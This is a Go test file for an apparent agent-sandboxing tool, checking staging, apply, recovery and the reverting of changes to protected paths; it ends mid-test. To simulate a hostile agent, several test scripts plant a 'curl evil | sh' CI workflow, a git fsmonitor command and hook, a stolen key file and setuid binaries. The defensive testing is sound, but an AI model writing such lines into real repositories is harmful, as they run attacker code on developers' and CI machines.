package main

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/urfave/cli/v3"
	"golang.org/x/sys/unix"

	"github.com/layerseal/layerseal"
	"github.com/layerseal/layerseal/attest"
	"github.com/layerseal/layerseal/internal/treediff"
	"github.com/layerseal/layerseal/policy"
)

// Environment of the test binary acting as layerseal apply.
const (
	killAtEnv    = "LAYERSEAL_TEST_KILL_AT"    // N: SIGKILL this process before apply step N (1-based)
	stepsFileEnv = "LAYERSEAL_TEST_STEPS_FILE" // FILE: record the number of apply steps taken
)

func init() {
	killAt, _ := strconv.Atoi(os.Getenv(killAtEnv))
	stepsFile := os.Getenv(stepsFileEnv)
	if killAt <= 0 && stepsFile == "" {
		return
	}
	n := 0
	applyProgress = func(string, attest.Path) {
		n++
		if n == killAt {
			unix.Kill(os.Getpid(), unix.SIGKILL)
			select {} // the signal is on its way
		}
		if stepsFile != "" {
			os.WriteFile(stepsFile, []byte(strconv.Itoa(n)), 0o644)
		}
	}
}

// stagedRun runs script as the agent with --stage, records the agent's view
// of the workspace, and returns the output dir and that view.
func (e *env) stagedRun(name, script string, extra ...string) (string, treediff.Manifest) {
	e.t.Helper()
	// The manifest leaves the agent's view through a writable path.
	views := filepath.Join(e.dir, name+".view")
	if err := os.MkdirAll(views, 0o755); err != nil {
		e.t.Fatal(err)
	}
	view := filepath.Join(views, "manifest")
	os.Remove(view) // a name used again
	out := filepath.Join(e.dir, name)
	script += fmt.Sprintf("\nLAYERSEAL_TEST_MANIFEST=1 %q . %q", os.Args[0], view)
	if code, log := e.run(out, script, append(append([]string{"--stage", "--rw", views}, testBinaryRO()...), extra...)...); code != 0 {
		e.t.Fatalf("run: exit %d\n%s", code, log)
	}
	m, err := treediff.ReadFile(view)
	if err != nil {
		e.t.Fatalf("the agent's manifest: %v", err)
	}
	return out, m
}

// onTmpfs moves e's empty workspace and state dir onto one tmpfs of mib
// MiB, for -short runs (the kernel matrix, whose guests are emulated) of a
// test whose change sets must be large but whose subject does not depend
// on the filesystem. One filesystem for both, as on the temp dir:
// overlay's inode numbers stay unique only when its layers share one (xino
// is off).
func (e *env) onTmpfs(mib int) {
	e.t.Helper()
	fs := filepath.Join(e.dir, "tmpfs")
	mountTmpfs(e.t, fs, mib)
	e.ws, e.state = filepath.Join(fs, "ws"), filepath.Join(fs, "state")
	if err := os.Mkdir(e.ws, 0o755); err != nil {
		e.t.Fatal(err)
	}
}

func (e *env) manifest() treediff.Manifest {
	e.t.Helper()
	m, err := treediff.Walk(e.ws)
	if err != nil {
		e.t.Fatal(err)
	}
	return m
}

// mustCLI runs the CLI and fails unless it exits with code.
func (e *env) mustCLI(code int, args ...string) string {
	e.t.Helper()
	got, stdout, stderr := e.cli(args...)
	if got != code {
		e.t.Fatalf("%v: exit %d, want %d\n%s%s", args, got, code, stdout, stderr)
	}
	return stdout + stderr
}

// TestStageDiffApplyDiscard: a staged session leaves the workspace alone,
// diff shows its change set (excluded subtrees counted), apply applies it
// exactly once, and discard drops another; misuse gets clear errors.
func TestStageDiffApplyDiscard(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, baseTree)
	write(t, e.ws, map[string]string{"node_modules/old/x": "1", "layerseal.yaml": "exclude: [node_modules]\n"})
	before := e.manifest()
	out, view := e.stagedRun("s1", `echo changed > file.txt; rm del.txt
mkdir -p node_modules/pkg/lib; printf 12345 > node_modules/pkg/lib/a.js; printf abc > node_modules/pkg/b.js; rm -r node_modules/old`)
	if d := treediff.Equal(before, e.manifest()); d != "" {
		t.Fatalf("a staged run changed the workspace: %s", d)
	}
	diff := e.mustCLI(0, "diff", "--state-dir", e.state, out)
	for _, want := range []string{"M  file.txt\n", "D  del.txt\n", "X  node_modules\t6 entries, 8 bytes\n", "# 3 change(s) to apply, 1 excluded subtree(s), complete"} {
		if !strings.Contains(diff, want) {
			t.Errorf("diff lacks %q:\n%s", want, diff)
		}
	}
	if strings.Contains(diff, "a.js") {
		t.Errorf("diff itemizes an excluded path:\n%s", diff)
	}
	e.mustCLI(0, "verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), filepath.Join(out, "statement.json"))

	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	if d := treediff.Equal(view, e.manifest()); d != "" {
		t.Errorf("after apply the workspace differs from the agent's view: %s", d)
	}
	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
		t.Errorf("second apply: %s", msg)
	}
	if msg := e.mustCLI(1, "discard", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
		t.Errorf("discard after apply: %s", msg)
	}
	if msg := e.mustCLI(1, "diff", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
		t.Errorf("diff after apply: %s", msg)
	}

	// Discard: the workspace keeps its state; apply is refused afterwards.
	now := e.manifest()
	out2, _ := e.stagedRun("s2", `echo again > file.txt`)
	e.mustCLI(0, "discard", "--state-dir", e.state, out2)
	if d := treediff.Equal(now, e.manifest()); d != "" {
		t.Errorf("discard changed the workspace: %s", d)
	}
	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out2); !strings.Contains(msg, "discarded") {
		t.Errorf("apply after discard: %s", msg)
	}
	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, filepath.Join(e.dir, "nonesuch")); !strings.Contains(msg, "no session") {
		t.Errorf("apply of an unknown session: %s", msg)
	}
	// An output dir whose session is in another state dir: the message
	// says which flag finds it.
	if msg := e.mustCLI(1, "apply", "--state-dir", filepath.Join(e.dir, "other-state"), out2); !strings.Contains(msg, "--state-dir") || !strings.Contains(msg, "launch.json") {
		t.Errorf("apply with another state dir: %s", msg)
	}

	// Someone edits the real workspace while a session is staged: apply
	// refuses and names the path, --force applies.
	out3, view3 := e.stagedRun("s3", `echo agent > file.txt; echo new > fresh.txt`)
	if err := os.WriteFile(filepath.Join(e.ws, "file.txt"), []byte("human edit\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out3); !strings.Contains(msg, `"file.txt"`) || !strings.Contains(msg, "--force") {
		t.Errorf("apply over a changed workspace: %s", msg)
	}
	e.mustCLI(0, "apply", "--force", "--state-dir", e.state, out3)
	if d := treediff.Equal(view3, e.manifest()); d != "" {
		t.Errorf("after apply --force: %s", d)
	}
}

// TestApplyRemovesInBackground: apply, and run when it applies, return
// once the workspace is applied and durable, say that the session's upper
// layer is being removed in the background and where, and that removal
// empties the state dir's pruning dir without anyone waiting for it.
func TestApplyRemovesInBackground(t *testing.T) {
	e := newEnv(t)
	if testing.Short() {
		e.onTmpfs(512)
	}
	write(t, e.ws, baseTree)
	pruning := filepath.Join(e.state, "pruning")
	check := func(what, msg string) {
		t.Helper()
		if !strings.Contains(msg, "being removed in the background from "+pruning) {
			t.Errorf("%s does not say where the upper layer is being removed:\n%s", what, msg)
		}
		deadline := time.Now().Add(30 * time.Second)
		for {
			left, _ := filepath.Glob(filepath.Join(pruning, "*"))
			if len(left) == 0 {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("after %s the pruning dir still holds %v 30 s later", what, left)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	many := fmt.Sprintf("mkdir -p big; cd big; seq %d | xargs touch; cd ..; ", layerseal.LeaveRemovalMin)
	out, view := e.stagedRun("s1", many+`echo changed > file.txt`)
	check("apply", e.mustCLI(0, "apply", "--state-dir", e.state, out))
	if d := treediff.Equal(view, e.manifest()); d != "" {
		t.Errorf("after apply the workspace differs from the agent's view: %s", d)
	}

	msg := e.mustCLI(0, "run", "--workspace", e.ws, "--key", e.key, "--out", filepath.Join(e.dir, "run"), "--state-dir", e.state,
		"--", "/bin/sh", "-ec", "mkdir run; cd run; "+many+"echo run > ../file.txt")
	check("run", msg)
	if b, err := os.ReadFile(filepath.Join(e.ws, "file.txt")); err != nil || string(b) != "run\n" {
		t.Errorf("file.txt after the run: %q, %v", b, err)
	}

	// A small change set's upper layer is removed at once, without a word.
	msg = e.mustCLI(0, "run", "--workspace", e.ws, "--key", e.key, "--out", filepath.Join(e.dir, "small"), "--state-dir", e.state,
		"--", "/bin/sh", "-ec", "echo small > file.txt")
	if strings.Contains(msg, "background") {
		t.Errorf("a run of one change left its upper layer to the background:\n%s", msg)
	}
	if left, _ := filepath.Glob(filepath.Join(pruning, "*")); len(left) > 0 {
		t.Errorf("a run of one change left %v in the pruning dir", left)
	}

	// A removal that stopped: sessions says where the space is and what
	// finishes it, and --prune does.
	if err := os.MkdirAll(filepath.Join(pruning, "stopped.layers", "upper"), 0o700); err != nil {
		t.Fatal(err)
	}
	if msg := e.mustCLI(0, "sessions", "--state-dir", e.state); !strings.Contains(msg, pruning+" holds upper layers") || !strings.Contains(msg, "sessions --prune") {
		t.Errorf("sessions with a removal left over:\n%s", msg)
	}
	e.mustCLI(0, "sessions", "--prune", "--state-dir", e.state)
	if left, _ := filepath.Glob(filepath.Join(pruning, "*")); len(left) > 0 {
		t.Errorf("sessions --prune left %v in the pruning dir", left)
	}
}

// TestSweepProtected: changes to protected paths — deleted, renamed,
// chmodded, replaced under an opaque directory, a new ignored .env — are
// reverted before apply and recorded; everything else is applied; an
// --allow lets one through; a useless --allow is warned about.
// TestBuiltinProtected: with no configuration, what git runs or hides when
// the operator reviews the workspace (its config and hooks, a submodule's
// .git file made a directory) and the editors' settings are reverted and
// the run staged, while the agent's commit and files are kept; an --allow
// lifts a rule.
func TestBuiltinProtected(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, baseTree)
	write(t, e.ws, map[string]string{
		".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/": "",
		".git/modules/sub/config": "[core]\n", "sub/.git": "gitdir: ../.git/modules/sub\n",
	})
	before := e.manifest()
	script := `printf '[core]\n\tfsmonitor = touch /tmp/owned\n' > .git/config.lock; mv .git/config.lock .git/config
printf '#!/bin/sh\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
mkdir .vscode; echo '{}' > .vscode/settings.json
rm sub/.git; mkdir sub/.git; printf '[core]\n\tfsmonitor = x\n' > sub/.git/config; echo 'ref: x' > sub/.git/HEAD
mkdir -p .git/objects/ab; echo obj > .git/objects/ab/cdef
echo changed > file.txt`
	out := filepath.Join(e.dir, "run")
	code, log := e.run(out, script)
	if code != 0 || !strings.Contains(log, "protected path(s): the change set is staged") {
		t.Fatalf("run: exit %d, not staged for its violations:\n%s", code, log)
	}
	if !strings.Contains(log, "such as --allow '.git/config'\n") {
		t.Errorf("no --allow hint:\n%s", log)
	}
	if !strings.Contains(log, "and also 3 entr(ies) in .git") {
		t.Errorf("no warning of the agent's 3 entries in .git (objects, ab, cdef):\n%s", log)
	}
	for _, v := range [][2]string{{".git/config", ".git/config"}, {".git/hooks/pre-commit", ".git/hooks/**"},
		{".vscode", ".vscode/**"}, {".vscode/settings.json", ".vscode/**"}, {"sub/.git", "**/.git"}, {"sub/.git/config", "**/.git/config"}} {
		if want := fmt.Sprintf("protected path %s changed (rule %q)", v[0], v[1]); !strings.Contains(log, want) {
			t.Errorf("no %q in:\n%s", want, log)
		}
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	after := e.manifest()
	for _, p := range []string{".git/config", ".git/hooks", ".git/modules/sub/config", "sub/.git"} {
		if d := treediff.Equal(treediff.Manifest{p: before[p]}, treediff.Manifest{p: after[p]}); d != "" {
			t.Errorf("protected %s changed: %s", p, d)
		}
	}
	for p, want := range map[string]bool{".git/hooks/pre-commit": false, ".vscode": false, "sub/.git/config": false,
		"sub/.git/HEAD": false, ".git/objects/ab/cdef": true} {
		if _, ok := after[p]; ok != want {
			t.Errorf("%s present = %t, want %t", p, ok, want)
		}
	}
	if after["file.txt"].Size != int64(len("changed\n")) {
		t.Errorf("file.txt was not applied")
	}

	// Only .git/config, replaced the way git writes it: the .git
	// directory's mtime moves, which is no sign of a commit.
	code, log = e.run(filepath.Join(e.dir, "run2"), `echo '[core]' > .git/config.lock; mv .git/config.lock .git/config`)
	if code != 0 || !strings.Contains(log, "protected path .git/config changed") || strings.Contains(log, "entr(ies) in .git") {
		t.Errorf("run2: exit %d, want a violation and no .git warning:\n%s", code, log)
	}
	e.mustCLI(0, "discard", "--state-dir", e.state, filepath.Join(e.dir, "run2"))
	code, log = e.run(filepath.Join(e.dir, "run3"), `echo '[user]' >> .git/config`, "--allow", ".git/config")
	if b, _ := os.ReadFile(filepath.Join(e.ws, ".git/config")); code != 0 || strings.Contains(log, "protected") || string(b) != "[core]\n[user]\n" {
		t.Errorf("run3 with --allow .git/config: exit %d, .git/config %q:\n%s", code, b, log)
	}
}

// TestGrantsReverted: a root agent's setuid copy of a binary, a setgid bit
// and file capabilities would run with those rights on the host once
// applied: each is a violation, reverted, and the run staged; --allow lets
// one through.
func TestGrantsReverted(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, map[string]string{"tool": "t\n", "src/a": "a\n"})
	out := filepath.Join(e.dir, "run")
	code, log := e.run(out, `cp /bin/true suid; chmod 4755 suid; chmod 2755 tool
cp /bin/true capped; setfattr -n security.capability -v `+capV2+` capped; echo b > src/a`,
		"--process", e.rootWith("CAP_SETFCAP")) // no longer a default
	if code != 0 || !strings.Contains(log, "protected path(s): the change set is staged") {
		t.Fatalf("run: exit %d, not staged:\n%s", code, log)
	}
	if !strings.Contains(log, "such as --allow 'capped'\n") { // a built-in rule's example is the path
		t.Errorf("no --allow hint naming the path:\n%s", log)
	}
	for _, v := range [][2]string{{"suid", policy.RuleSetuid}, {"tool", policy.RuleSetgid}, {"capped", policy.RuleCapabilities}} {
		if want := fmt.Sprintf("protected path %s changed (rule %q): reverted", v[0], v[1]); !strings.Contains(log, want) {
			t.Errorf("no %q in:\n%s", want, log)
		}
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	for _, p := range []string{"suid", "capped"} {
		if _, err := os.Lstat(filepath.Join(e.ws, p)); err == nil {
			t.Errorf("%s was applied", p)
		}
	}
	if fi, err := os.Stat(filepath.Join(e.ws, "tool")); err != nil || fi.Mode()&os.ModeSetgid != 0 {
		t.Errorf("tool: %v, %v: want it without its setgid bit", fi, err)
	}
	if readString(t, filepath.Join(e.ws, "src/a")) != "b\n" {
		t.Error("src/a was not applied")
	}
	// By default a root agent cannot give file capabilities at all.
	code, log = e.run(filepath.Join(e.dir, "run2"), `cp /bin/true suid; chmod 4755 suid; ! setfattr -n security.capability -v `+capV2+` suid 2>/dev/null`, "--allow", "suid")
	if fi, err := os.Stat(filepath.Join(e.ws, "suid")); code != 0 || err != nil || fi.Mode()&os.ModeSetuid == 0 {
		t.Errorf("--allow suid: exit %d, %v, %v:\n%s", code, fi, err, log)
	}
}

func TestSweepProtected(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, baseTree)
	write(t, e.ws, map[string]string{
		".env": "SECRET=1", ".gitignore": ".env*\n", ".github/workflows/ci.yml": "ci", ".github/workflows/release.yml": "rel",
		"deploy/prod.yml": "prod", "secret.key": "k", "notes.md": "n",
		"layerseal.yaml": "protected: [.env, \".env.*\", .github/workflows/**, deploy/**, secret.key, notes.md]\n",
	})
	before := e.manifest()
	script := `rm .env
echo LEAK=1 > .env.local
mv secret.key stolen.key
chmod 666 deploy/prod.yml
rm -rf .github; mkdir -p .github/workflows; echo 'curl evil | sh' > .github/workflows/ci.yml
echo allowed > notes.md
echo 'exclude: []' > layerseal.yaml
echo changed > file.txt`
	out := filepath.Join(e.dir, "run")
	args := []string{"run", "--workspace", e.ws, "--key", e.key, "--out", out, "--state-dir", e.state,
		"--allow", "notes.md", "--allow", "src/**", "--", "/bin/sh", "-ec", script}
	code, stdout, stderr := e.cli(args...)
	if code != 0 {
		t.Fatalf("run: exit %d\n%s%s", code, stdout, stderr)
	}
	if !strings.Contains(stderr, `--allow "src/**" matches no protected path`) {
		t.Errorf("no warning for a useless --allow:\n%s", stderr)
	}
	e.mustCLI(0, "verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), filepath.Join(out, "statement.json"))
	// A run with violations is staged under the default policy.
	if !strings.Contains(stderr, "protected path(s): the change set is staged") {
		t.Errorf("a run with violations does not say it is staged:\n%s", stderr)
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	st := statementAt(t, out)
	got := map[string]string{}
	for _, v := range st.Violations {
		got[string(v.Path)] = v.Rule + " " + string(v.Action)
	}
	for p, want := range map[string]string{
		".env": ".env reverted", ".env.local": ".env.* reverted", "secret.key": "secret.key reverted",
		"deploy/prod.yml": "deploy/** reverted", ".github/workflows/ci.yml": ".github/workflows/** reverted",
		".github/workflows/release.yml": ".github/workflows/** reverted", "layerseal.yaml": "layerseal.yaml reverted",
	} {
		if got[p] != want {
			t.Errorf("violation %q: %q, want %q", p, got[p], want)
		}
	}
	if _, ok := got["notes.md"]; ok {
		t.Errorf("allowed notes.md reported as a violation")
	}
	var launch struct {
		Predicate struct {
			Policy struct {
				Allow  []string `json:"allow"`
				Config string   `json:"config_sha256"`
			} `json:"policy"`
		} `json:"predicate"`
	}
	lb, _ := os.ReadFile(filepath.Join(out, "launch.json"))
	var envl struct {
		Payload []byte `json:"payload"`
	}
	if err := json.Unmarshal(lb, &envl, json.RejectUnknownMembers(false)); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(envl.Payload, &launch, json.RejectUnknownMembers(false)); err != nil {
		t.Fatal(err)
	}
	if strings.Join(launch.Predicate.Policy.Allow, ",") != "notes.md,src/**" || len(launch.Predicate.Policy.Config) != 64 {
		t.Errorf("launch policy: %+v", launch.Predicate.Policy)
	}

	after := e.manifest()
	for p, n := range before {
		protected := p == ".env" || p == "secret.key" || p == "layerseal.yaml" || strings.HasPrefix(p, "deploy/") || strings.HasPrefix(p, ".github/workflows/")
		if !protected {
			continue
		}
		a, ok := after[p]
		n.Links, a.Links = nil, nil
		if !ok || treediff.Equal(treediff.Manifest{p: n}, treediff.Manifest{p: a}) != "" {
			t.Errorf("protected %q not as before: %s", p, treediff.Equal(treediff.Manifest{p: n}, treediff.Manifest{p: a}))
		}
	}
	for p, want := range map[string]bool{".env.local": false, "stolen.key": true, ".github/workflows": true} {
		if _, ok := after[p]; ok != want {
			t.Errorf("%q present = %t, want %t", p, ok, want)
		}
	}
	if after["notes.md"].Size != int64(len("allowed\n")) || after["file.txt"].Size != int64(len("changed\n")) {
		t.Errorf("allowed or unprotected changes were not applied")
	}
}

// TestApplyKilled kills `layerseal apply` with SIGKILL at 50 seeded steps
// and checks that a second apply then finishes the job exactly.
func TestApplyKilled(t *testing.T) {
	e := newEnv(t)
	write(t, e.ws, baseTree)
	write(t, e.ws, map[string]string{"layerseal.yaml": "exclude: [cache]\n"})
	out, view := e.stagedRun("s", `echo changed > file.txt; printf ABCDEF > same.txt; echo line2 >> append.txt
chmod 600 mode.txt; chown 1234:4321 owner.txt; touch -d '2024-05-06 07:08:09' touch.txt; setfattr -n user.agent -v hi xattr.txt
rm del.txt; rm -rf dir; rm -rf redo; mkdir redo; echo again > redo/x; mv mv.txt moved.txt; mv mvdir renamed
ln target.txt hard.txt; ln -s target.txt sym; mkfifo fifo; chmod 700 deep/er; rm -rf empty; echo now-a-file > empty
mkdir -p new/a/b; for i in 1 2 3 4 5 6 7 8; do echo $i > new/a/b/f$i; done; mkdir -p cache/x; echo c > cache/x/y`,
		"--allow", "owner.txt") // a file given to user 1234 is a (grants write) violation: apply must carry it here
	snap := filepath.Join(e.dir, "snap")
	if err := os.Mkdir(snap, 0o700); err != nil {
		t.Fatal(err)
	}
	cp := func(from, to string) {
		t.Helper()
		if err := os.RemoveAll(to); err != nil {
			t.Fatal(err)
		}
		if b, err := exec.Command("cp", "-a", from, to).CombinedOutput(); err != nil {
			t.Fatalf("cp -a %s %s: %v\n%s", from, to, err, b)
		}
	}
	for _, d := range []string{"ws", "state", "s"} {
		cp(filepath.Join(e.dir, d), filepath.Join(snap, d))
	}
	restore := func() {
		for _, d := range []string{"state", "s"} {
			cp(filepath.Join(snap, d), filepath.Join(e.dir, d))
		}
		// The workspace directory itself stays (apply checks it is the
		// one the session started on): only what it holds is restored.
		ents, err := os.ReadDir(e.ws)
		if err != nil {
			t.Fatal(err)
		}
		for _, ent := range ents {
			if err := os.RemoveAll(filepath.Join(e.ws, ent.Name())); err != nil {
				t.Fatal(err)
			}
		}
		if b, err := exec.Command("cp", "-a", filepath.Join(snap, "ws")+"/.", e.ws).CombinedOutput(); err != nil {
			t.Fatalf("restore the workspace: %v\n%s", err, b)
		}
	}
	steps := filepath.Join(e.dir, "steps")
	if code, _, stderr := e.cliEnv([]string{stepsFileEnv + "=" + steps}, "apply", "--state-dir", e.state, out); code != 0 {
		t.Fatalf("apply: %s", stderr)
	}
	b, _ := os.ReadFile(steps)
	total, _ := strconv.Atoi(string(b))
	if total < 50 {
		t.Fatalf("only %d apply steps: the scenario is too small", total)
	}
	if d := treediff.Equal(view, e.manifest()); d != "" {
		t.Fatalf("uninterrupted apply: %s", d)
	}
	// 50 seeded kill points; 10 in -short runs (the kernel matrix, whose
	// guests are emulated), which CI's host run does not use.
	kills := 50
	if testing.Short() {
		kills = 10
	}
	rng := rand.New(rand.NewSource(4))
	points := rng.Perm(total)[:kills]
	for i, p := range points {
		at := p + 1
		restore()
		// The restored workspace's files are new inodes, all changed
		// after the launch (conflicts): --force, where the apply starts
		// from scratch, keeps the test to what it is about.
		code, _, stderr := e.cliEnv([]string{fmt.Sprintf("%s=%d", killAtEnv, at)}, "apply", "--force", "--state-dir", e.state, out)
		if code != -1 {
			t.Fatalf("kill point %d (step %d of %d): exit %d, want death by SIGKILL\n%s", i, at, total, code, stderr)
		}
		if i%10 == 0 && at > 1 {
			// Killed again while resuming, earlier in the run.
			if code, _, _ := e.cliEnv([]string{fmt.Sprintf("%s=%d", killAtEnv, 1+at/2)}, "apply", "--state-dir", e.state, out); code != -1 {
				t.Fatalf("second kill at step %d: exit %d", 1+at/2, code)
			}
		}
		resume := []string{"apply", "--state-dir", e.state, out}
		if at == 1 {
			// Killed before the journal: the resume starts from scratch.
			resume = append(resume[:1], append([]string{"--force"}, resume[1:]...)...)
		}
		if code, stdout, stderr := e.cli(resume...); code != 0 {
			t.Fatalf("resume after kill at step %d of %d: exit %d\n%s%s", at, total, code, stdout, stderr)
		}
		if d := treediff.Equal(view, e.manifest()); d != "" {
			t.Fatalf("after kill at step %d of %d and resume: %s", at, total, d)
		}
		if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "already applied") {
			t.Fatalf("apply after resume: %s", msg)
		}
	}
	t.Logf("%d kill points of %d steps, each resumed to the agent's view", len(points), total)
}

// TestApplyNoSpace applies onto a full tmpfs: the apply stops with an error
// that says how to resume, the change set stays, and after space is freed
// the apply finishes exactly.
func TestApplyNoSpace(t *testing.T) {
	e := newEnv(t)
	fs := filepath.Join(e.dir, "small")
	if err := os.Mkdir(fs, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("tmpfs", fs, "tmpfs", 0, "size=512k,mode=0755"); err != nil {
		t.Fatalf("mount tmpfs: %v", err)
	}
	t.Cleanup(func() { unix.Unmount(fs, unix.MNT_DETACH) })
	e.ws = filepath.Join(fs, "ws")
	if err := os.Mkdir(e.ws, 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, e.ws, map[string]string{"a.txt": "a", "dir/b.txt": "b"})
	out, view := e.stagedRun("s", `head -c 400000 /dev/urandom > big1; head -c 400000 /dev/urandom > dir/big2; echo c > a.txt; rm dir/b.txt`)
	code, stdout, stderr := e.cli("apply", "--state-dir", e.state, out)
	if code != 1 || !strings.Contains(stderr, "no space left") || !strings.Contains(stderr, "layerseal apply "+out) {
		t.Fatalf("apply on a full disk: exit %d\n%s%s", code, stdout, stderr)
	}
	e.mustCLI(0, "diff", "--state-dir", e.state, out) // still staged
	if err := unix.Mount("tmpfs", fs, "tmpfs", unix.MS_REMOUNT, "size=4m,mode=0755"); err != nil {
		t.Fatalf("grow tmpfs: %v", err)
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	if d := treediff.Equal(view, e.manifest()); d != "" {
		t.Errorf("after freeing space and resuming: %s", d)
	}
}

// TestRecoverAfterSupervisorKilled kills the supervisor with SIGKILL while
// the agent runs: the agent dies with its namespace, and recover signs an
// incomplete statement of what it wrote, which can then be applied.
func TestRecoverAfterSupervisorKilled(t *testing.T) {
	e := newEnv(t)
	// A short state dir: the session's control socket path must fit a
	// unix socket address.
	short, err := os.MkdirTemp("/tmp", "ls")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(short) })
	e.state = short
	write(t, e.ws, baseTree)
	out := filepath.Join(e.dir, "run")
	marker := "987" + strconv.Itoa(os.Getpid()%1000)
	cmd := exec.Command(os.Args[0], "run", "--workspace", e.ws, "--key", e.key, "--out", out, "--state-dir", e.state,
		"--", "/bin/sh", "-ec", "echo new > new.txt; rm del.txt; echo agent > dir/a; exec sleep "+marker)
	cmd.Env = append(os.Environ(), cliEnv+"=1")
	var runLog strings.Builder
	cmd.Stdout, cmd.Stderr = &runLog, &runLog
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	for {
		ups, _ := filepath.Glob(filepath.Join(e.state, "sessions", "*", "upper", "new.txt"))
		if len(ups) == 1 && sleeping(marker) {
			break
		}
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatalf("the agent did not start (upper: %q, sleeping: %t)\n%s", ups, sleeping(marker), runLog.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	for deadline := time.Now().Add(5 * time.Second); sleeping(marker); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the agent outlived its supervisor")
		}
	}
	if msg := e.mustCLI(1, "apply", "--state-dir", e.state, out); !strings.Contains(msg, "layerseal recover") {
		t.Errorf("apply before recover: %s", msg)
	}
	// An edit of the user's while the session was down is a conflict the
	// recovered statement names, as a run's would.
	if err := os.WriteFile(filepath.Join(e.ws, "dir", "a"), []byte("user\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if msg := e.mustCLI(64, "recover", "--state-dir", e.state, out); !strings.Contains(msg, "--key") {
		t.Errorf("recover without a key: %s", msg)
	}
	e.mustCLI(0, "recover", "--key", e.key, "--state-dir", e.state, out)
	statement := filepath.Join(out, "statement.json")
	if code, stdout, stderr := e.cli("verify", "--key", e.pub, "--launch", filepath.Join(out, "launch.json"), statement); code != 2 ||
		!strings.Contains(stdout+stderr, "unobserved-end") || !strings.Contains(stdout+stderr, "conflict dir/a") {
		t.Errorf("verify after recover: exit %d, want 2 with unobserved-end and conflict dir/a\n%s%s", code, stdout, stderr)
	}
	// recover writes the statement's Sigstore bundle too, of the same
	// signed payload.
	var env struct {
		Payload string `json:"payload"`
	}
	var bundle struct {
		DsseEnvelope struct {
			Payload string `json:"payload"`
		} `json:"dsseEnvelope"`
	}
	if b, err := os.ReadFile(statement); err != nil || json.Unmarshal(b, &env) != nil {
		t.Fatalf("statement after recover: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(out, "statement.sigstore.json")); err != nil || json.Unmarshal(b, &bundle) != nil ||
		env.Payload == "" || bundle.DsseEnvelope.Payload != env.Payload {
		t.Errorf("Sigstore bundle after recover: %v", err)
	}
	// recover writes the statement's head too: a proof holds, with exit 2
	// (unobserved-end covers every path).
	e.mustCLI(0, "prove", "--out", filepath.Join(e.dir, "new.proof"), out, "new.txt")
	if code, stdout, stderr := e.cli("verify", "--key", e.pub, filepath.Join(e.dir, "new.proof")); code != 2 || !strings.Contains(stdout, "new.txt changed (added)") {
		t.Errorf("verify of a bundle after recover: exit %d, want 2\n%s%s", code, stdout, stderr)
	}
	if msg := e.mustCLI(1, "recover", "--key", e.key, "--state-dir", e.state, out); !strings.Contains(msg, "already has a statement") {
		t.Errorf("second recover: %s", msg)
	}
	diff := e.mustCLI(0, "diff", "--state-dir", e.state, out)
	if !strings.Contains(diff, "A  new.txt\n") || !strings.Contains(diff, "D  del.txt\n") {
		t.Errorf("diff after recover:\n%s", diff)
	}
	e.mustCLI(0, "apply", "--force", "--state-dir", e.state, out, "dir/a")
	if b, err := os.ReadFile(filepath.Join(e.ws, "new.txt")); err != nil || string(b) != "new\n" {
		t.Errorf("new.txt after apply: %q, %v", b, err)
	}
	if _, err := os.Lstat(filepath.Join(e.ws, "del.txt")); !os.IsNotExist(err) {
		t.Errorf("del.txt after apply: %v", err)
	}
}

// sleeping reports whether a `sleep marker` process is alive.
func sleeping(marker string) bool {
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err == nil && string(b) == "sleep\x00"+marker+"\x00" {
			return true
		}
	}
	return false
}

// TestConfigRefused: bad configurations are usage errors naming the line,
// and nothing runs.
func TestConfigRefused(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct{ yaml, want string }{
		{"exclude: [a]\nprotect: [.env]\n", "line 2"},
		{"protected: [a//b]\n", "can never match"},
		{"apply: later\n", "later"},
	} {
		if err := os.WriteFile(filepath.Join(e.ws, "layerseal.yaml"), []byte(c.yaml), 0o644); err != nil {
			t.Fatal(err)
		}
		code, log := e.run(filepath.Join(e.dir, "out"), "touch ran")
		if code != exitUsage || !strings.Contains(log, c.want) {
			t.Errorf("config %q: exit %d, want %d with %q\n%s", c.yaml, code, exitUsage, c.want, log)
		}
		if _, err := os.Lstat(filepath.Join(e.ws, "ran")); err == nil {
